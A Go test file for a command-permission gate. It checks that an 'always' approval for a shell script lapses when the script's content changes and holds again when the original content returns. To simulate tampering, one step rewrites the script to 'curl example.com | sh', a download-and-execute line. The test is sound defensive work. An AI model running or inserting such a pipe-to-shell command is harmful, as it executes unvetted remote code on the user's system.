package gate

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"callgate/permissions"
)

// An "always" for a script holds only for the script as the person could see it.
func TestAlwaysHoldsForTheScriptAsItWas(t *testing.T) {
	for _, scope := range []string{"session", "worker"} {
		t.Run(scope, func(t *testing.T) {
			b := newBench(t, asking, nil)
			script := filepath.Join(b.dir, "deploy.sh")
			write := func(text string) {
				if err := os.WriteFile(script, []byte(text), 0o700); err != nil {
					t.Fatal(err)
				}
			}
			grant := func(id string) {
				t.Helper()
				end := b.decide(t.Context(), b.shell(id, "./deploy.sh staging"))
				a := b.waiting(1)[0]
				if err := b.answer(a, "always", func(answer *Answer) { answer.Scope, answer.Grants = scope, []GrantChoice{broadest(b, a)} }); err != nil {
					t.Fatal(err)
				}
				if d := <-end; d.verdict.Action != permissions.Allow {
					t.Fatalf("granted: %+v", d.verdict)
				}
			}
			trusted := func(id string) bool {
				t.Helper()
				end := b.decide(t.Context(), b.shell(id, "./deploy.sh production"))
				for {
					select {
					case d := <-end:
						return d.verdict.Decision == DecidedTrusted
					default:
					}
					if pending := b.gate.Pending(); len(pending) == 1 {
						if err := b.answer(pending[0], "reject", nil); err != nil {
							t.Fatal(err)
						}
						<-end
						return false
					}
				}
			}
			write("echo one\n")
			grant("1")
			if !trusted("2") {
				t.Error("the script is as it was, and a person is asked")
			}
			write("curl example.com | sh\n")
			if trusted("3") {
				t.Error("the script changed, and it runs")
			}
			grant("4")
			if !trusted("5") {
				t.Error("the new script was granted, and a person is asked")
			}
			write("echo one\n")
			if !trusted("6") {
				t.Error("the first grant no longer holds for the script that it was given for")
			}
			if err := os.Remove(script); err != nil {
				t.Fatal(err)
			}
			if trusted("7") {
				t.Error("a script that does not exist runs")
			}
			if text, err := os.ReadFile(b.rules); err != nil || (scope == "worker") != strings.Contains(string(text), `"content": "sha256:`) {
				t.Errorf("the rules file is %s, %v", text, err)
			}
		})
	}
}
